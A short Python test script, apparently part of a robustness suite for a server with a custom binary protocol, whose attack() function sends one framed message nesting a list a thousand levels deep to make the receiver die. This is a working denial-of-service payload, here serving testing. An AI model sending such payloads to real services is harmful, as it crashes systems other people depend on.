"""Send lists within lists a thousand deep."""

import struct

from raw import connection, framed, returned

HARM = "died"


def attack():
    connection().sendall(framed(returned(b"l" + struct.pack("<Q", 1)) + (b"l" + struct.pack("<Q", 1)) * 1000 + b"N"))
    return 42
